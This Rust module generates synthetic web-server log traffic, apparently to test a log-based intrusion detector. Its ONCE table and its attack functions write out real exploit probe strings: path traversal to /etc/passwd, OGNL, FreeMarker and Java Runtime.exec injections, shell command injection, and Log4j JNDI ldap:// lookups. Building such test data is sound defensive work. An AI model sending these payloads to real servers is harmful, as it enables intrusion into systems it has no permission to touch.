//! What visitors and attackers ask web servers for.

use super::{Dice, Lists, Script};

/// One request, or one complaint in the error log.
#[derive(Clone, Debug)]
pub(crate) struct Hit {
    pub(crate) address: String,
    pub(crate) host: &'static str,
    pub(crate) method: &'static str,
    pub(crate) target: String,
    pub(crate) status: u16,
    pub(crate) agent: String,
    pub(crate) referer: String,
    pub(crate) note: Note,
}

/// In which log it stands.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Note {
    Access,
    WrongPassword,
    NoSuchUser,
    Limited,
    Denied,
    Broken,
}

const HOSTS: [&str; 3] = ["shop.example.org", "blog.example.org", "www.example.net"];
/// Mostly short: crowdsec runs six hundred regular expressions over each.
const AGENTS: [&str; 12] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Feedreader/2.1 (caf\u{e9} \u{1f980})",
    "Mozilla/5.0",
    "Shop/7.1",
    "okhttp/4.9",
    "App/3 iOS",
    "-",
    "-",
    "-",
    "-",
    "",
    "",
];
const STATICS: [&str; 6] = [
    "/static/site.css",
    "/static/app.js",
    "/logo.PNG",
    "/fonts/a.woff2",
    "/favicon.ico",
    "/img/photo.jpeg?w=300",
];

/// What alerts when asked for once.
const ONCE: [(&str, &str, u16, &str); 21] = [
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 404, ""),
    ("GET", "/icons/%2e%2e/%2E%2e/etc/passwd", 400, ""),
    (
        "GET",
        "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
        400,
        "",
    ),
    (
        "GET",
        "/public/plugins/alertlist/../../../../../etc/passwd",
        200,
        "",
    ),
    (
        "GET",
        "/public/plugins/text/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        404,
        "",
    ),
    (
        "GET",
        "/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd",
        404,
        "",
    ),
    (
        "GET",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        404,
        "",
    ),
    (
        "GET",
        "/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/",
        404,
        "",
    ),
    (
        "GET",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
        404,
        "",
    ),
    (
        "GET",
        "/?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
        200,
        "",
    ),
    (
        "POST",
        "/shop?class.module.classLoader.resources.context=1",
        200,
        "",
    ),
    (
        "GET",
        "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew%28%29%28%22id%22%29%7d",
        404,
        "",
    ),
    (
        "POST",
        "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1",
        401,
        "",
    ),
    (
        "GET",
        "/autodiscover/autodiscover.json?@x.example/owa/&Email=autodiscover/powershell",
        404,
        "",
    ),
    (
        "POST",
        "/vendor/htmlawed/htmlawed/htmLawedTest.php",
        404,
        "",
    ),
    (
        "PUT",
        "/api/v2/cmdb/system/admin/admin",
        404,
        "Report Runner",
    ),
    (
        "GET",
        "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
        302,
        "",
    ),
    (
        "GET",
        "/search?q=%24%7Bscript%3Ajs%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D",
        200,
        "",
    ),
    ("POST", "/login/index.php?login=$(id)", 302, ""),
    (
        "GET",
        "/remote_agent.php?action=polldata&poller_id=1;id&host_id=1&local_data_ids[]=1",
        200,
        "",
    ),
    ("GET", "/w00tw00t.at.ISC.SANS.DFind:)", 400, ""),
];

/// How an attack goes: what it asks for, how quickly it leaks, how many it takes.
type Attack = (fn(&mut Script<'_, Hit>, &Lists) -> Hit, u64, u64);

const ATTACKS: [Attack; 16] = [
    (probing, 10_000, 10),
    (crawling, 500, 40),
    (robot, 60_000, 1),
    (sensitive, 5_000, 4),
    (traversal, 10_000, 3),
    (injection, 1_000, 10),
    (scripting, 1_000, 5),
    (backdoor, 5_000, 1),
    (refused_login, 10_000, 5),
    (wrong_password, 10_000, 5),
    (limited, 60_000, 5),
    (once, 10_000, 1),
    (log4j, 10_000, 1),
    (jira, 10_000, 1),
    (open_proxy, 10_000, 1),
    (enumeration, 10_000, 5),
];

/// One visit.
pub(super) fn visit(script: &mut Script<'_, Hit>, lists: &Lists) {
    match script.dice.below(100) {
        0..55 => ordinary(script),
        55..60 => office(script),
        60..62 => {
            for _ in 0..=script.dice.below(10) {
                let hit = oddity(script);
                script.act(hit);
                script.wait(700);
            }
        }
        _ => {
            let (make, leak, capacity) = *script.dice.pick(&ATTACKS);
            let most = if capacity == 40 {
                140
            } else {
                capacity * 3 + 4
            };
            for _ in 0..=script.dice.below(most) {
                let hit = make(script, lists);
                script.act(hit);
                script.pace(leak, capacity);
            }
        }
    }
}

/// One visit of a robot, of a crawler, or of somebody ordinary.
pub(super) fn crawl(script: &mut Script<'_, Hit>, lists: &Lists) {
    match script.dice.below(10) {
        0..2 => ordinary(script),
        2..6 => {
            for _ in 0..=script.dice.below(7) {
                let mut hit = hit(script, "/", 200);
                let robot = script.dice.pick(&lists.robots);
                hit.agent = match script.dice.below(4) {
                    0 => format!("x{robot}"),
                    1 => format!("Mozilla/5.0 (compatible; {robot}/1.0)"),
                    _ => robot.clone(),
                };
                script.act(hit);
                script.pace(60_000, 1);
            }
        }
        _ => {
            // About as quickly as the bucket leaks, or several times so.
            let quick = *script.dice.pick(&[60, 200, 500, 900]);
            for _ in 0..=script.dice.below(200) {
                let mut hit = crawling(script, lists);
                hit.host = HOSTS[usize::from(script.dice.percent(10))];
                script.act(hit);
                let wait = script.dice.below(quick);
                script.wait(wait);
            }
        }
    }
}

fn hit(script: &mut Script<'_, Hit>, target: impl Into<String>, status: u16) -> Hit {
    let dice = &mut *script.dice;
    Hit {
        address: script.address.clone(),
        host: HOSTS[0],
        method: "GET",
        target: target.into(),
        status,
        agent: (*dice.pick(&AGENTS)).to_owned(),
        referer: "-".to_owned(),
        note: Note::Access,
    }
}

fn ordinary(script: &mut Script<'_, Hit>) {
    let host = *script.dice.pick(&HOSTS);
    let agent = (*script.dice.pick(&AGENTS)).to_owned();
    for _ in 0..=script.dice.below(6) {
        let page = match script.dice.below(6) {
            0 => "/".to_owned(),
            1 => format!("/search?q=word{}&page=2", script.dice.below(40)),
            2 => format!("/article/{}", script.dice.below(300)),
            3 => format!("/old/{}.html", script.dice.below(50)),
            4 => "/caf%C3%A9/menu".to_owned(),
            _ => format!("/shop/item{}.php?ref=a", script.dice.below(90)),
        };
        let status = if page.starts_with("/old") { 404 } else { 200 };
        let mut seen = hit(script, page.clone(), status);
        (seen.host, seen.agent) = (host, agent.clone());
        script.act(seen);
        for _ in 0..script.dice.below(4) {
            script.wait(150);
            let file = *script.dice.pick(&STATICS);
            let mut seen = hit(script, file, 200);
            (seen.host, seen.agent) = (host, agent.clone());
            seen.referer = format!("https://{host}{page}");
            script.act(seen);
        }
        let think = 2_000 + script.dice.below(40_000);
        script.wait(think);
    }
}

/// Many people behind one address.
fn office(script: &mut Script<'_, Hit>) {
    let begin = script.at;
    for _ in 0..=script.dice.below(8) {
        let later = i64::try_from(script.dice.below(300_000)).unwrap();
        script.at = begin + later;
        ordinary(script);
    }
}

fn oddity(script: &mut Script<'_, Hit>) -> Hit {
    let target = match script.dice.below(7) {
        0 => "/a b c".to_owned(),
        1 => format!("/{}", "x".repeat(script.dice.index(1_500))),
        2 => "/?q=\"quoted\"".to_owned(),
        3 => "*".to_owned(),
        4 => "/\u{fc}ml\u{e4}ut/\u{2603}?\u{202e}".to_owned(),
        5 => "/%00%ff%fe/".to_owned(),
        _ => "//..//./;a=b?c#d".to_owned(),
    };
    let mut odd = hit(script, target, 200);
    if script.dice.percent(20) {
        odd.note = Note::Broken;
    }
    odd.method = *script
        .dice
        .pick(&["GET", "OPTIONS", "PROPFIND", "\\x16\\x03\\x01"]);
    odd
}

fn probing(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    let path = format!("/word{}/{}", script.dice.below(30), script.dice.below(3));
    let status = *script.dice.pick(&[404, 404, 403, 400]);
    let mut hit = hit(script, path, status);
    hit.host = HOSTS[usize::from(script.dice.percent(5))];
    hit
}

fn crawling(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    let path = format!("/catalogue/{}.html", script.dice.below(120));
    let mut hit = hit(script, path, 200);
    hit.method = *script.dice.pick(&["GET", "HEAD"]);
    hit
}

fn robot(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    let mut hit = hit(script, "/", 200);
    hit.agent = format!("{}/1.0", script.dice.pick(&lists.agents));
    hit
}

/// A text of a list in a request, with a number now and then so that few are alike.
fn worded(
    script: &mut Script<'_, Hit>,
    words: &[String],
    target: impl Fn(&str, u64) -> String,
) -> Hit {
    let number = script.dice.below(50);
    let word = script.dice.pick(words).clone();
    hit(script, target(&word, number), 200)
}

fn sensitive(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    worded(script, &lists.sensitive, |word, n| format!("/b{n}{word}"))
}

fn traversal(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    worded(script, &lists.traversal, |word, n| {
        format!("/view?f={word}{word}etc/passwd{n}")
    })
}

fn injection(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    worded(script, &lists.sqli, |word, n| format!("/item?id={n}{word}"))
}

fn scripting(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    worded(script, &lists.xss, |word, n| format!("/find?q={word}+{n}"))
}

fn backdoor(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    worded(script, &lists.backdoors, |word, _| format!("/up/{word}"))
}

fn jira(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    worded(script, &lists.jira, |word, n| format!("/s/{n}{word}"))
}

fn log4j(script: &mut Script<'_, Hit>, lists: &Lists) -> Hit {
    let word = script.dice.pick(&lists.log4j).clone();
    let mut hit = hit(script, "/", 200);
    match script.dice.below(3) {
        0 => hit.target = format!("/?x={word}ldap://198.51.100.9/a}}"),
        1 => hit.agent = format!("{word}ldap://198.51.100.9/a}}"),
        _ => hit.referer = format!("{word}ldap://198.51.100.9/a}}"),
    }
    hit
}

fn refused_login(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    let status = *script.dice.pick(&[401, 403]);
    let mut hit = hit(script, "/api/session", status);
    hit.method = "POST";
    hit
}

fn wrong_password(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    let mut hit = hit(script, "/private/page", 401);
    hit.note = *script
        .dice
        .pick(&[Note::WrongPassword, Note::NoSuchUser, Note::Denied]);
    hit
}

fn limited(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    let mut hit = hit(script, "/api/list?x=1", 503);
    hit.note = Note::Limited;
    hit
}

fn once(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    let (method, target, status, agent) = *script.dice.pick(&ONCE);
    let mut hit = hit(script, target, status);
    hit.method = method;
    if !agent.is_empty() {
        agent.clone_into(&mut hit.agent);
    }
    hit
}

fn open_proxy(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    let status = *script.dice.pick(&[400, 405]);
    let mut hit = hit(script, "http://198.51.100.7/", status);
    if script.dice.percent(50) {
        hit.method = "CONNECT";
        "198.51.100.7:443".clone_into(&mut hit.target);
    }
    hit
}

/// Two holes that are looked for by many requests.
fn enumeration(script: &mut Script<'_, Hit>, _: &Lists) -> Hit {
    if script.dice.percent(50) {
        let mut hit = hit(script, "/ghost/api/admin/session", 404);
        hit.method = "POST";
        return hit;
    }
    let id = script.dice.below(40);
    hit(
        script,
        format!("/remote_agent.php?action=x&host_id={id}&local_data_ids[]=1"),
        200,
    )
}

/// A name that somebody tries.
pub(super) fn user(dice: &mut Dice) -> &'static str {
    const USERS: [&str; 5] = ["admin", "root", "j.doe", "test-user", "www_data"];
    USERS[dice.index(USERS.len())]
}
